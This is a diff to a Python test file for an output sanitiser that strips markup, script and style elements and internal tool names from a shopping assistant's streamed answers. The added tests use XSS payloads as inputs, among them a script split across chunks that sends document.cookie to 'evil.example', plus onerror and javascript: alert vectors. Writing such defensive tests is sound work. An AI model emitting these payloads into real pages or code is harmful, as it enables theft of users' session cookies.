@@ -157,7 +157,7 @@ def test_markup_and_internal_names_never_reach_the_shopper():
         ["<P0012>Skim Milk is here. ", "I can use search", "_products for you. ", "<script>x</script>"],
         {"search_products": "search products"},
     )
-    assert "".join(shown) == "Skim Milk is here. I can use search products for you. x"
+    assert "".join(shown) == "Skim Milk is here. I can use search products for you. "
     assert {c.kind for c in corrections} == {"markup", "internal"}
 
 
@@ -180,3 +180,33 @@ def test_a_fact_is_checked_and_shown_once_a_few_words_follow_it_not_only_at_the_
     assert shown[5] == "in stock (12 available) and costs "  # settled three words on: checked, shown
     assert "".join(shown) == "The Oatbury Oat Milk is in stock (12 available) and costs $3.49 a carton now."
     assert [c.kind for c in corrections] == ["price"]
+
+
+def test_script_and_style_elements_are_dropped_with_their_code_even_split_across_pieces():
+    pieces = [
+        "Sure! <scr",
+        "ipt>fetch('//evil.example?c='",
+        "+document.cookie)</scr",
+        "ipt>Oat milk is here.",
+        "<style>p{}</style>",
+    ]
+    shown, corrections = guarded(TurnContext(), pieces)
+    assert "".join(shown) == "Sure! Oat milk is here."
+    assert {c.kind for c in corrections} == {"markup"}
+
+
+def test_a_tag_with_attributes_spanning_sentences_is_removed_whole():
+    pieces = ['Look. <img src="x.png" onerror="alert(1)"> ', "Thanks. <a href='javascript:alert(1)'>click</a>"]
+    shown, _ = guarded(TurnContext(), pieces)
+    assert "".join(shown) == "Look.  Thanks. click"
+
+
+def test_an_unclosed_code_element_is_dropped_to_the_end_of_the_answer():
+    shown, _ = guarded(TurnContext(), ["Here you go: ", "<script>", "while(1){}", " and more"])
+    assert "".join(shown).strip() == "Here you go:"
+
+
+def test_a_less_than_sign_in_words_is_kept():
+    shown, corrections = guarded(TurnContext(), ["Everything under <", " 5 items ships free <3"])
+    assert "".join(shown) == "Everything under < 5 items ships free <3"
+    assert corrections == []
